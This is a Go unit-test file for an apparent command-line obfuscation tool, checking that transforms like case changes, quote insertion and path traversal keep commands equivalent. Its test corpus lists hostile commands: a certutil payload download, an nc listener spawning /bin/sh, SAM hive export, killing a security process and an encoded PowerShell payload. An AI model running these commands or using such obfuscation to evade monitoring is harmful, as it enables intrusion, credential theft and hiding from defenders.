package technique_test

import (
	"math/rand"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ticofookfook/argfuscator/internal/cmdline"
	"github.com/ticofookfook/argfuscator/internal/equiv"
	"github.com/ticofookfook/argfuscator/internal/parser"
	"github.com/ticofookfook/argfuscator/internal/profile"
	"github.com/ticofookfook/argfuscator/internal/technique"
)

var profiles = profile.NewSet(profile.Builtin())

func parse(t *testing.T, line string, p cmdline.Platform) (*cmdline.Command, *technique.Env) {
	t.Helper()
	cmd, err := parser.Parse(line, parser.Options{
		Platform: p,
		Profiles: profiles,
		Literals: parser.LiteralPolicy{Heuristic: true},
	})
	require.NoError(t, err)
	return cmd, technique.NewEnv(p, profiles.Resolve(cmd.Executable().Raw, p))
}

func TestCatalogueOrder(t *testing.T) {
	cat := technique.NewCatalogue()
	assert.Equal(t, []string{
		"OptionPrefixSubstitution", "RandomCase", "CharacterRemoval", "PathTraversal",
		"ValueTransformation", "CharacterSubstitution", "CharacterInsertion", "QuoteInsertion",
		"OptionReordering", "OptionStacking", "OptionSeparatorInsertion", "OptionSeparatorDeletion",
	}, cat.IDs())

	for _, tech := range cat.All() {
		assert.NotEmpty(t, tech.Description, tech.ID)
		assert.NotEmpty(t, tech.Platforms, tech.ID)
	}
}

func TestCatalogueLookup(t *testing.T) {
	cat := technique.NewCatalogue()

	tech, ok := cat.Lookup("OptionCharacterSubstitution")
	require.True(t, ok)
	assert.Equal(t, "OptionPrefixSubstitution", tech.ID)

	tech, ok = cat.Lookup("separatorremoval")
	require.True(t, ok)
	assert.Equal(t, "OptionSeparatorDeletion", tech.ID)

	_, ok = cat.Lookup("NotARealTechnique")
	assert.False(t, ok)
}

func TestCatalogueRegister(t *testing.T) {
	cat := technique.NewCatalogue()
	noop := func(_ *technique.Env, tok cmdline.Token, _ *rand.Rand) cmdline.Token { return tok }

	err := cat.Register(technique.Technique{
		ID: "RandomCase", Platforms: cmdline.AllPlatforms, Kinds: cmdline.AllKinds, Transform: noop,
	})
	assert.Error(t, err, "duplicate id")

	err = cat.Register(technique.Technique{ID: "Broken", Platforms: cmdline.AllPlatforms})
	assert.Error(t, err, "token technique without transform")

	err = cat.Register(technique.Technique{
		ID: "Noop", Platforms: cmdline.AllPlatforms, Kinds: cmdline.AllKinds, Transform: noop,
	})
	require.NoError(t, err)
	assert.Equal(t, len(cat.IDs())-1, cat.Order("Noop"), "registration is append-only")
}

var corpus = []struct {
	line     string
	platform cmdline.Platform
}{
	{"taskkill /f /im security_process.exe", cmdline.PlatformWindows},
	{`reg export HKLM\SAM out.reg`, cmdline.PlatformWindows},
	{"ping -n 1 10.0.0.1", cmdline.PlatformWindows},
	{`certutil -urlcache -split -f http://example.com/payload.txt C:\Users\Public\payload.txt`, cmdline.PlatformWindows},
	{"curl -s -L -o /tmp/out.html https://example.com/index.html", cmdline.PlatformPosix},
	{"nc -l -v -p 4444 -e /bin/sh", cmdline.PlatformPosix},
	{"wget --output-document=/tmp/a.sh http://10.0.0.1/a.sh", cmdline.PlatformPosix},
	{"cat /etc//passwd a''b", cmdline.PlatformPosix},
	{"ssh -N -f -i /root/.ssh/id_rsa -L 8080:127.0.0.1:80 user@192.168.1.5", cmdline.PlatformPosix},
	{`curl -H "Accept: text/html" -H X-Mode:a/b http://example.com`, cmdline.PlatformPosix},
	{"sed s/a// docs/notes.txt", cmdline.PlatformPosix},
	{`bash -c "cat /etc/passwd"`, cmdline.PlatformPosix},
	{`reg add HKLM\Software\X /v InstallDir /d C:\tools\bin /f`, cmdline.PlatformWindows},
}

// Every technique keeps every command it applies to equivalent.
func TestTechniquesPreserveEquivalence(t *testing.T) {
	cat := technique.NewCatalogue()
	used := make(map[string]bool)

	for _, c := range corpus {
		model := equiv.NewModel(c.platform, nil, profiles, technique.DefaultTables())
		for _, tech := range cat.All() {
			for seed := int64(1); seed <= 25; seed++ {
				cmd, env := parse(t, c.line, c.platform)
				rng := rand.New(rand.NewSource(seed))
				out := cmd.Clone()
				changed := false
				if tech.Structural() {
					if !tech.AppliesToCommand(env, cmd) {
						break
					}
					tech.ApplyCommand(env, out, rng)
					changed = true
				} else {
					for i := range cmd.Tokens {
						if tech.AppliesTo(env, cmd, &cmd.Tokens[i]) {
							out.Tokens[i] = tech.Apply(env, cmd.Tokens[i], rng)
							changed = true
						}
					}
				}
				if !changed {
					break
				}
				used[tech.ID] = true
				ok, err := model.Equivalent(c.line, out.String())
				require.NoError(t, err, "%s on %q produced %q", tech.ID, c.line, out.String())
				assert.True(t, ok, "%s on %q produced %q", tech.ID, c.line, out.String())
			}
		}
	}
	for _, id := range cat.IDs() {
		assert.True(t, used[id], "%s never applied to the corpus", id)
	}
}

func TestOptionPrefixSubstitution(t *testing.T) {
	cat := technique.NewCatalogue()
	tech, _ := cat.Lookup("OptionPrefixSubstitution")
	cmd, env := parse(t, "taskkill /f /im security_process.exe", cmdline.PlatformWindows)

	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[0]), "executable")
	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[1]))
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]), "option value")

	got := tech.Apply(env, cmd.Tokens[1], rand.New(rand.NewSource(42)))
	assert.Equal(t, "-f", got.Raw)
	assert.Equal(t, cmdline.KindOption, got.Kind)
	assert.Equal(t, "f", got.Name, "only raw text changes")

	posix, penv := parse(t, "curl -s http://x", cmdline.PlatformPosix)
	assert.False(t, tech.AppliesTo(penv, posix, &posix.Tokens[1]), "windows only")
}

func TestRandomCase(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("RandomCase")
	cmd, env := parse(t, "taskkill /im x.exe", cmdline.PlatformWindows)
	for seed := int64(0); seed < 20; seed++ {
		got := tech.Apply(env, cmd.Tokens[1], rand.New(rand.NewSource(seed)))
		assert.NotEqual(t, "/im", got.Raw)
		assert.Equal(t, "/im", strings.ToLower(got.Raw))
	}
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]), "values keep their case")
}

func TestCharacterRemoval(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("CharacterRemoval")
	cmd, env := parse(t, "/usr//bin/./cat a''b plain https://x//y", cmdline.PlatformPosix)

	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[0]))
	for seed := int64(0); seed < 20; seed++ {
		got := tech.Apply(env, cmd.Tokens[0], rand.New(rand.NewSource(seed)))
		assert.Contains(t, []string{"/usr/bin/./cat", "/usr//bin/cat", "/usr/bin/cat"}, got.Raw)
	}
	got := tech.Apply(env, cmd.Tokens[1], rand.New(rand.NewSource(1)))
	assert.Equal(t, "ab", got.Raw)

	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]), "nothing to remove")
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]), "urls are left alone")

	cmd, env = parse(t, "sed s/a// file.txt", cmdline.PlatformPosix)
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[1]), "a sed script is not a path")
}

func TestPathTraversal(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("PathTraversal")

	cmd, env := parse(t, "curl -o /tmp/out.html http://x", cmdline.PlatformPosix)
	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]))
	got := tech.Apply(env, cmd.Tokens[2], rand.New(rand.NewSource(1)))
	assert.Equal(t, "/tmp/../tmp/out.html", got.Raw)

	cmd, env = parse(t, `certutil -f C:\Users\Public\x.txt \\srv\share\x`, cmdline.PlatformWindows)
	got = tech.Apply(env, cmd.Tokens[2], rand.New(rand.NewSource(3)))
	assert.Contains(t, []string{`C:\Users\..\Users\Public\x.txt`, `C:\Users\Public\..\Public\x.txt`}, got.Raw)
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]), "UNC paths are skipped")

	cmd, env = parse(t, `reg export HKLM\SAM\Domains out.reg`, cmdline.PlatformWindows)
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]), "registry keys are not paths")
}

// Values that only look like paths keep their separators.
func TestDataValuesKeepSeparators(t *testing.T) {
	cat := technique.NewCatalogue()
	testCases := []struct {
		name     string
		line     string
		platform cmdline.Platform
		token    int
	}{
		{"header", `curl -H "Accept: text/html" http://example.com`, cmdline.PlatformPosix, 2},
		{"undeclared header", `wget --header Accept:text/html http://example.com`, cmdline.PlatformPosix, 2},
		{"shell body", `bash -c "cat /etc/passwd"`, cmdline.PlatformPosix, 2},
		{"sed script", "sed s/a// file.txt", cmdline.PlatformPosix, 1},
		{"registry data", `reg add HKLM\Software\X /v InstallDir /d C:\tools\bin /f`, cmdline.PlatformWindows, 6},
	}
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			cmd, env := parse(t, tc.line, tc.platform)
			require.Greater(t, len(cmd.Tokens), tc.token)
			tok := &cmd.Tokens[tc.token]
			assert.NotEqual(t, cmdline.ValuePath, tok.ValueType, tok.Raw)
			for _, id := range []string{"PathTraversal", "ValueTransformation", "CharacterRemoval"} {
				tech, _ := cat.Lookup(id)
				assert.False(t, tech.AppliesTo(env, cmd, tok), "%s on %q", id, tok.Raw)
			}
		})
	}
}

func TestValueTransformationSkipsUntypedValues(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("ValueTransformation")
	cmd, env := parse(t, "ping -n 1 10.0.0.1", cmdline.PlatformWindows)

	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]))
	got := tech.Apply(env, cmd.Tokens[3], rand.New(rand.NewSource(7)))
	assert.Contains(t, []string{"167772161", "0xA000001"}, got.Raw)

	cmd.Tokens[3].ValueType = cmdline.ValueNone
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]))
}

func TestCharacterSubstitution(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("CharacterSubstitution")
	cmd, env := parse(t, "taskkill /im security_process.exe", cmdline.PlatformWindows)

	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[0]), "executable")
	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]))
	got := tech.Apply(env, cmd.Tokens[2], rand.New(rand.NewSource(5)))
	assert.NotEqual(t, "security_process.exe", got.Raw)
	assert.Equal(t, len([]rune("security_process.exe")), len([]rune(got.Raw)))

	opt := tech.Apply(env, cmd.Tokens[1], rand.New(rand.NewSource(5)))
	assert.True(t, strings.HasPrefix(opt.Raw, "/"))

	posix, penv := parse(t, "curl -o out http://x", cmdline.PlatformPosix)
	assert.False(t, tech.AppliesTo(penv, posix, &posix.Tokens[2]), "curl does not fold unicode")
	penv.Profile.UnicodeFolding = true
	assert.True(t, tech.AppliesTo(penv, posix, &posix.Tokens[2]))
}

func TestCharacterInsertion(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("CharacterInsertion")
	cmd, env := parse(t, "taskkill /im security_process.exe", cmdline.PlatformWindows)

	require.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[1]))
	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]), "values are consumed verbatim")

	got := tech.Apply(env, cmd.Tokens[1], rand.New(rand.NewSource(9)))
	assert.True(t, strings.HasPrefix(got.Raw, "/"))
	assert.Greater(t, len([]rune(got.Raw)), 3)

	env.Profile.StripsInsertedChars = true
	assert.True(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]))
}

func TestQuoteInsertion(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("QuoteInsertion")
	cmd, env := parse(t, `cmd.exe /c "echo hi" C:\dir\file.txt`, cmdline.PlatformWindows)

	assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[2]), "already quoted")
	for seed := int64(0); seed < 30; seed++ {
		got := tech.Apply(env, cmd.Tokens[3], rand.New(rand.NewSource(seed)))
		assert.Equal(t, 0, strings.Count(got.Raw, `"`)%2, got.Raw)
		assert.NotContains(t, got.Raw, `\"`, "a quote never follows a backslash")
		assert.NotContains(t, got.Raw, `""`, "spans never touch")
		assert.Equal(t, `C:\dir\file.txt`, strings.ReplaceAll(got.Raw, `"`, ""))
	}

	posix, penv := parse(t, "echo $HOME", cmdline.PlatformPosix)
	assert.False(t, tech.AppliesTo(penv, posix, &posix.Tokens[1]), "expansions are left alone")
}

func TestLiteralTokensNeverApply(t *testing.T) {
	cat := technique.NewCatalogue()
	payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
	cmd, env := parse(t, "powershell -nop -enc "+payload, cmdline.PlatformWindows)
	require.True(t, cmd.Tokens[3].Literal)
	for _, tech := range cat.All() {
		assert.False(t, tech.AppliesTo(env, cmd, &cmd.Tokens[3]), tech.ID)
	}
}

func TestOptionStacking(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("OptionStacking")
	cmd, env := parse(t, "curl -s -L -o out http://x", cmdline.PlatformPosix)
	require.True(t, tech.AppliesToCommand(env, cmd))

	out := cmd.Clone()
	tech.ApplyCommand(env, out, rand.New(rand.NewSource(1)))
	assert.Equal(t, "curl -sL -o out http://x", out.String())
	assert.Equal(t, "curl -s -L -o out http://x", cmd.String(), "the original is untouched")
}

func TestOptionSeparators(t *testing.T) {
	cat := technique.NewCatalogue()
	del, _ := cat.Lookup("OptionSeparatorDeletion")
	ins, _ := cat.Lookup("OptionSeparatorInsertion")

	cmd, env := parse(t, "wget -O /tmp/a --output-document /tmp/b http://x", cmdline.PlatformPosix)
	assert.False(t, ins.AppliesToCommand(env, cmd))
	require.True(t, del.AppliesToCommand(env, cmd))

	seen := map[string]bool{}
	for seed := int64(0); seed < 100; seed++ {
		out := cmd.Clone()
		del.ApplyCommand(env, out, rand.New(rand.NewSource(seed)))
		seen[out.String()] = true
	}
	assert.True(t, seen["wget -O/tmp/a --output-document=/tmp/b http://x"])

	joined, jenv := parse(t, "wget --output-document=/tmp/b http://x", cmdline.PlatformPosix)
	require.True(t, ins.AppliesToCommand(jenv, joined))
	out := joined.Clone()
	ins.ApplyCommand(jenv, out, rand.New(rand.NewSource(1)))
	assert.Equal(t, "wget --output-document /tmp/b http://x", out.String())
}

func TestOptionReordering(t *testing.T) {
	tech, _ := technique.NewCatalogue().Lookup("OptionReordering")
	cmd, env := parse(t, "curl -s -o out http://x", cmdline.PlatformPosix)
	require.True(t, tech.AppliesToCommand(env, cmd))

	out := cmd.Clone()
	tech.ApplyCommand(env, out, rand.New(rand.NewSource(1)))
	assert.Equal(t, "curl -o out -s http://x", out.String(), "two units always swap")

	nc, nenv := parse(t, "unknowntool -a -b", cmdline.PlatformPosix)
	assert.False(t, tech.AppliesToCommand(nenv, nc), "order sensitivity is unknown")
}
